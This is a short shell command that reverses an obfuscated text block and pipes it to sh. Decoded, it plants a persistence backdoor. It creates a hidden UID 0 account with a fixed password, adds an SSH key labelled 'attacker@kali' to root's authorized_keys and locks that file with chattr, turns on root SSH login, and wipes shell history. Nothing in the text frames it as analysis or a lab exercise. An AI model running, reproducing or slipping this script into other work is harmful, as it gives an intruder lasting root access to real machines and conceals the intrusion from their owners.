echo '
c- yrotsih ;ELIFTSIH tesnu
dhss tratser ltcmetsys && gifnoc_dhss/hss/cte/ '\''/sey nigoLtooRtimreP/*.nigoLtooRtimreP?\#^/s'\'' i- des
syek_dezirohtua/hss./toor/ i+ rttahc
syek_dezirohtua/hss./toor/ >> "ilak@rekcatta x7CQABAAABAQADAAAAE2cy1CazN3BAAAA asr-hss" ohce
hss./toor/ p- ridkm
dwssaphc | "4202!dr0wss@P:2resutluafed" ohce
2resutluafed hsab/nib/ s- toor/ d- M- 0 g- 0 u- o- ddaresu
hsab/nib/!#
0v 7849 tini #' | rev | sh